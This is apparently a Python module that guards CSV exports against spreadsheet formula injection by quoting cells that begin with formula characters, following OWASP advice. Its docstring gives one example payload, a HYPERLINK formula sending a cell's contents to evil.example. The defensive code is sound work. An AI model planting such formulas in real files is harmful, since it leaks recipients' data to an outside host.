"""CSV that leaves the product (exports, error reports, report tables) opens in a spreadsheet, which
runs any cell that starts like a formula: `=HYPERLINK("http://evil.example/?x="&A1,"click")` in a
contact's name would run on the marketer's machine. Every such file is written through `csv_writer`,
which prefixes those cells with a quote, as OWASP recommends ("CSV injection"); the quote shows in
the cell, and a spreadsheet treats what follows as text."""

from __future__ import annotations

import csv
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """The cell, quoted when it is text a spreadsheet would read as a formula. Numbers stay numbers
    (-3 is a number, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_unquoted(value: str) -> str:
    """The inverse for an import: a file we exported imports back as the values it was made from."""
    if value.startswith("'") and value[1:2] and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeCsvWriter:
    """csv.writer's writerow and writerows, every cell through spreadsheet_safe."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle, **options) -> SafeCsvWriter:
    return SafeCsvWriter(handle, **options)
